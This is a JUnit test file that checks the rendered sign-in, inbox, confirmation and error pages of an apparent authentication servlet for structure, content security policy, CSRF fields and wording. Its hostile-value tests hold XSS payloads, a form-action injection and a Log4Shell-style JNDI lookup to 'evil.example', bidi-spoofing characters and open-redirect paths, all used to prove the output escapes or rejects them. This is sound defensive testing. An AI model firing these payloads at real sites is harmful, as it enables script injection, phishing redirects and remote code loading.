package org.descope4j.servlet;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.descope4j.DeliveryMethod;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class PagesTest {

    private static final PagesGallery GALLERY = PagesGallery.friendly();
    private static final String SIGN_IN = "/app/auth/sign-in?returnTo=%2Fapp%2Faccount";

    private final Pages pages = new Pages();

    static Stream<String> everyPage() {
        return GALLERY.pages().keySet().stream();
    }

    private static String html(String name) {
        return GALLERY.html(name);
    }

    private static String html(Page page) {
        return PagesGallery.html(page, "");
    }

    private static String withoutStyle(String html) {
        return html.replaceAll("(?s)<style>.*?</style>", "");
    }

    @Nested
    class Each_page {

        @ParameterizedTest
        @MethodSource("org.descope4j.servlet.PagesTest#everyPage")
        void is_a_complete_document(String name) {
            assertThat(html(name))
                    .startsWith("<!DOCTYPE html>\n<html lang=\"en\" dir=\"ltr\">\n<head>\n<meta charset=\"UTF-8\">")
                    .contains("<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">")
                    .contains("<meta name=\"color-scheme\" content=\"light dark\">")
                    .contains("<meta name=\"robots\" content=\"noindex\">")
                    .contains("<header><bdi>Harbour Library</bdi></header>")
                    .containsPattern("<title>[^<]+ \u2013 Harbour Library</title>")
                    .endsWith("</main>\n</body>\n</html>\n");
            assertThat(html(name).split("<h1>", -1)).hasSize(2);
            assertThat(html(name).split("<main>", -1)).hasSize(2);
        }

        @ParameterizedTest
        @MethodSource("org.descope4j.servlet.PagesTest#everyPage")
        void P1_V4_has_no_script_and_loads_nothing_and_submits_nothing_by_itself(String name) {
            assertThat(html(name))
                    .doesNotContainIgnoringCase("<script")
                    .doesNotContainIgnoringCase("http:")
                    .doesNotContainIgnoringCase("https:")
                    .doesNotContainIgnoringCase("javascript:")
                    .doesNotContainIgnoringCase("http-equiv")
                    .doesNotContainIgnoringCase("url(")
                    .doesNotContainIgnoringCase("@import")
                    .doesNotContainPattern("(?i)\\s(style|src|on[a-z]+)\\s*=");
        }

        @ParameterizedTest
        @MethodSource("org.descope4j.servlet.PagesTest#everyPage")
        void P1_carries_the_style_whose_hash_the_policy_names(String name) throws Exception {
            Matcher style =
                    Pattern.compile("<style>(.*?)</style>", Pattern.DOTALL).matcher(html(name));
            assertThat(style.results()).hasSize(1);
            style.reset().find();
            byte[] hash =
                    MessageDigest.getInstance("SHA-256").digest(style.group(1).getBytes(UTF_8));

            assertThat(PagesGallery.contentSecurityPolicy())
                    .isEqualTo("default-src 'none'; style-src 'sha256-"
                            + Base64.getEncoder().encodeToString(hash)
                            + "'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'");
        }

        @ParameterizedTest
        @MethodSource("org.descope4j.servlet.PagesTest#everyPage")
        void P4_says_everything_it_has_to_say_and_nothing_about_our_insides(String name) {
            String visible = withoutStyle(GALLERY.html(name));

            assertThat(visible)
                    .doesNotContain("{value}")
                    .doesNotContain("%s")
                    .doesNotContain("null")
                    .doesNotContainIgnoringCase("exception")
                    .doesNotContainIgnoringCase("descope4j")
                    .doesNotContainPattern("<(p|h1|label|legend|button|span|bdi|title)\\b[^>]*></");
        }

        @ParameterizedTest
        @MethodSource("org.descope4j.servlet.PagesTest#everyPage")
        void does_not_print_its_tokens(String name) {
            assertThat(GALLERY.page(name).toString()).doesNotContain("K7Q2").doesNotContain("html");
        }
    }

    @Nested
    class Hostile_values {

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "<script>alert(1)</script>",
                    "\"><img src=x onerror=alert(1)>",
                    "' autofocus onfocus='alert(1)",
                    "</title></style><svg/onload=alert(1)>",
                    "</main><form action=//evil.example>",
                    "&lt;b&gt;&#x3c;i>",
                    "<!--",
                    "]]><x>"
                })
        void P2_never_become_markup(String hostile) {
            PagesGallery filled = PagesGallery.filledWith(hostile);

            filled.pages().keySet().forEach(name -> {
                assertThat(elements(filled.html(name)))
                        .as(name)
                        .isEqualTo(elements(PagesGallery.filledWith("x").html(name)));
            });
        }

        /** The tags of a page with their attributes' names: what a browser would build, values left out. */
        private static List<String> elements(String html) {
            return Pattern.compile("<(\"[^\"]*\"|[^\">])*>")
                    .matcher(withoutStyle(html))
                    .results()
                    .map(tag -> tag.group().replaceAll("\"[^\"]*\"", ""))
                    .toList();
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "a\u001B[31mb",
                    "a\u0000b",
                    "a\u202Eb",
                    "a\u2066b",
                    "a\u200Fb",
                    "a\u2028b",
                    "a\u0085b",
                    "a\r\nb",
                    "a\uFEFFb",
                    "a\uD83Db"
                })
        void P2_cannot_steer_what_is_seen(String hostile) {
            Page page = pages.confirmSignIn(PageForm.to("/", "c").with("t", "t"), hostile, hostile);

            assertThat(withoutStyle(PagesGallery.html(page, hostile)))
                    .doesNotContain(hostile)
                    .doesNotContainPattern("[\\p{Cc}&&[^\n]]|[\\p{Cf}\\p{Cs}\\p{Zl}\\p{Zp}]");
        }

        @Test
        void P2_a_lookup_expression_is_text() {
            String jndi = "${jndi:ldap://evil.example/a}{value}%s";

            Page page = pages.confirmSignIn(PageForm.to("/", jndi).with("t", jndi), jndi, jndi);

            assertThat(PagesGallery.html(page, jndi))
                    .contains("<bdi>" + jndi + "</bdi>")
                    .contains("value=\"" + jndi + "\"");
        }

        @Test
        void P2_a_name_ends_its_own_writing_direction() {
            assertThat(html(pages.signOut(PageForm.to("/auth/sign-out", "c"), "\u05D0\u05D3\u05D4")))
                    .contains("<bdi>\u05D0\u05D3\u05D4</bdi>");
        }

        @ParameterizedTest
        @ValueSource(
                strings = {
                    "",
                    "sign-in",
                    "//evil.example/",
                    "/\\evil.example",
                    "/\t/evil.example",
                    "/\n/evil.example",
                    "https://evil.example/",
                    "javascript:alert(1)"
                })
        void a_page_points_to_its_own_host_only(String path) {
            assertThatThrownBy(() -> html(pages.signedOut(path))).isInstanceOf(IllegalArgumentException.class);
            assertThatThrownBy(() -> html(pages.signOut(PageForm.to(path, "c"), "a")))
                    .isInstanceOf(IllegalArgumentException.class);
        }
    }

    @Nested
    class The_sign_in_page {

        private final SignInForm email = form(DeliveryMethod.EMAIL);
        private final SignInForm choice = form(DeliveryMethod.EMAIL, DeliveryMethod.SMS);

        private static SignInForm form(DeliveryMethod... offered) {
            return SignInForm.empty("/app/auth/sign-in", "csrf-1", "/app/account?a=1&b=2", List.of(offered));
        }

        @Test
        void posts_the_fields_the_sign_in_path_reads() {
            Page page = pages.signIn(email, "");

            assertThat(page.status()).isEqualTo(200);
            assertThat(withoutStyle(html(page)))
                    .contains("<form method=\"post\" action=\"/app/auth/sign-in\"")
                    .contains("<input type=\"hidden\" name=\"_descope_csrf\" value=\"csrf-1\">")
                    .contains("<input type=\"hidden\" name=\"returnTo\" value=\"/app/account?a=1&amp;b=2\">")
                    .contains("<input type=\"hidden\" name=\"deliveryMethod\" value=\"email\">")
                    .contains("name=\"loginId\" type=\"email\" inputmode=\"email\" autocomplete=\"email\"")
                    .doesNotContain("radio");
        }

        @Test
        void asks_for_a_phone_number_where_only_text_messages_are_sent() {
            assertThat(html(pages.signIn(form(DeliveryMethod.SMS), "")))
                    .contains("name=\"deliveryMethod\" value=\"sms\"")
                    .contains("name=\"loginId\" type=\"tel\" inputmode=\"tel\" autocomplete=\"tel\"")
                    .contains("aria-describedby=\"hint\"");
        }

        @Test
        void lets_the_user_choose_where_both_are_sent() {
            assertThat(html(pages.signIn(choice, "")))
                    .contains(
                            "<input type=\"radio\" name=\"deliveryMethod\" value=\"email\" checked> <span>E-mail</span>")
                    .contains("<input type=\"radio\" name=\"deliveryMethod\" value=\"sms\"> <span>Text message</span>")
                    .contains("name=\"loginId\" type=\"text\"");
        }

        @Test
        void keeps_what_was_typed_and_says_what_is_wrong_with_it() {
            Page page =
                    pages.signIn(choice.with(DeliveryMethod.SMS, "0170 \"12\"", FieldProblem.NOT_A_PHONE_NUMBER), "");

            assertThat(page.status()).isEqualTo(400);
            assertThat(html(page))
                    .contains("value=\"sms\" checked")
                    .contains("value=\"0170 &#34;12&#34;\"")
                    .contains("aria-invalid=\"true\" aria-describedby=\"problem\"")
                    .contains("<p class=\"problem\" id=\"problem\" role=\"alert\">Enter the number with");
        }

        @Test
        void refuses_a_choice_that_is_not_offered() {
            assertThatThrownBy(() -> email.with(DeliveryMethod.SMS, "", FieldProblem.NONE))
                    .isInstanceOf(IllegalArgumentException.class);
        }
    }

    @Test
    void S1_the_inbox_page_does_not_tell_whether_there_is_such_an_account() {
        assertThat(GALLERY.page("check-inbox-email").status()).isEqualTo(200);
        assertThat(html("check-inbox-email"))
                .contains("If you can sign in with <bdi>a***@e***.com</bdi>, a link is on its way to you.")
                .contains("spam")
                .contains("works once and expires soon")
                .contains("Use another address</a>");
    }

    @Test
    void the_inbox_page_sends_another_link_after_a_while_and_says_after_which() {
        assertThat(html("check-inbox-email"))
                .contains("You can ask for another link in <bdi>24</bdi> seconds.")
                .contains("Stop reloading this page</a>")
                .doesNotContain("<form");
        assertThat(html("check-inbox-resend"))
                .contains("another link is on its way to you")
                .contains("<form method=\"post\" action=\"/auth/sign-in\"")
                .contains("Send another link</button>")
                .contains("This page no longer reloads by itself. <a href");
    }

    @Test
    void V15_V23_the_confirmation_names_both_accounts_and_posts_the_link_token() {
        Page page = pages.confirmSignIn(
                PageForm.to("/auth/verify/s", "csrf-1").with("t", "token-1"), "a***@e***.com", "g***@e***.com");

        assertThat(html(page))
                .contains("<form method=\"post\" action=\"/auth/verify/s\"")
                .contains("<input type=\"hidden\" name=\"_descope_csrf\" value=\"csrf-1\">")
                .contains("<input type=\"hidden\" name=\"t\" value=\"token-1\">")
                .contains("sign in as <bdi>a***@e***.com</bdi>")
                .contains("you are signed in as <bdi>g***@e***.com</bdi>. Continuing switches the account.")
                .contains("If you did not ask for this link, close this page.");
    }

    @Test
    void the_confirmation_of_an_unknown_account_names_nobody() {
        Page page = pages.confirmSignIn(PageForm.to("/auth/verify", "c").with("t", "t"), "", "");

        assertThat(html(page))
                .contains("Nobody is signed in before you agree.")
                .doesNotContain("<bdi>")
                .doesNotContain("class=\"notice\"");
    }

    @Test
    void N5_V15_the_account_of_a_link_that_named_none_is_named_and_can_be_declined() {
        Page page = pages.confirmAccount(
                PageForm.to("/auth/verify", "csrf-1").with("signIn", "sealed-1"), "eve@example.com", "Ada");

        assertThat(html(page))
                .contains("This link belongs to <bdi>eve@example.com</bdi>. Sign in only if that is you.")
                .contains("you are signed in as <bdi>Ada</bdi>. Continuing switches the account.")
                .contains("name=\"signIn\" value=\"sealed-1\"")
                .contains("Yes, sign in</button>")
                .containsPattern("name=\"decline\" value=\"true\">\\s*<button[^>]*>No, that is not me</button>");
    }

    @Test
    void N7_a_link_that_is_no_longer_valid_names_who_is_still_signed_in() {
        StillSignedIn ada = new StillSignedIn("Ada", "/app/", "/app/auth/sign-out");

        assertThat(html(pages.linkNoLongerValid(SIGN_IN, ada, "")))
                .contains(
                        "You are still signed in as <bdi>Ada</bdi>.", "href=\"/app/\"", "href=\"/app/auth/sign-out\"");
        assertThat(html(pages.linkNoLongerValid(
                        PageForm.to("/sent", "c").with("state", "s"), "e***@e***.com", SIGN_IN, ada, "")))
                .contains("You are still signed in as <bdi>Ada</bdi>.", "href=\"/app/\"", "name=\"state\"");
    }

    @Test
    void V18_a_link_that_could_not_be_redeemed_can_be_tried_again() {
        Page page = pages.unavailable(PageForm.to("/auth/verify/s", "csrf-1").with("t", "token-1"), "K7Q2");

        assertThat(page.status()).isEqualTo(503);
        assertThat(html(page))
                .contains("<form method=\"post\" action=\"/auth/verify/s\"")
                .contains("name=\"_descope_csrf\" value=\"csrf-1\"")
                .contains("name=\"t\" value=\"token-1\"")
                .contains("Try again</button>")
                .contains("Reference <bdi>K7Q2</bdi>");
    }

    @ParameterizedTest
    @CsvSource({
        "PT0S, in a few seconds",
        "PT-5S, in a few seconds",
        "PT5S, in a few seconds",
        "PT5.1S, in <bdi>6</bdi> seconds",
        "PT90S, in <bdi>90</bdi> seconds",
        "PT91S, in <bdi>2</bdi> minutes",
        "PT5M, in <bdi>5</bdi> minutes",
        "PT5M0.1S, in <bdi>6</bdi> minutes",
        "PT90M, in <bdi>90</bdi> minutes",
        "PT90M1S, in <bdi>2</bdi> hours",
        "PT24H, in <bdi>24</bdi> hours"
    })
    void a_waiting_time_is_said_as_people_say_it_and_never_too_short(Duration wait, String said) {
        Page page = pages.tooManyRequests(wait, SIGN_IN, "");

        assertThat(page.status()).isEqualTo(429);
        assertThat(html(page)).contains(said);
    }

    @Test
    void V11_a_link_that_is_no_longer_valid_offers_a_new_one() {
        Page page = pages.linkNoLongerValid(SIGN_IN, StillSignedIn.NOBODY, "");

        assertThat(page.status()).isEqualTo(400);
        assertThat(html(page))
                .contains("<h1>This link is no longer valid</h1>")
                .contains("Send me a new link</a>")
                .doesNotContain("class=\"reference\"");
    }

    @Test
    void without_an_application_name_there_is_no_header() {
        assertThat(html(pages.signedOut("/"))).doesNotContain("<header>").contains("<title>Signed out</title>");
    }

    /** For the eye: a directory for each language in {@code target/pages}. */
    @Test
    void all_pages_can_be_looked_at() throws Exception {
        Path directory = Path.of("target", "pages");

        GALLERY.writeTo(directory);

        assertThat(directory.resolve("he")).isDirectoryContaining("glob:**sign-in.html");
    }
}
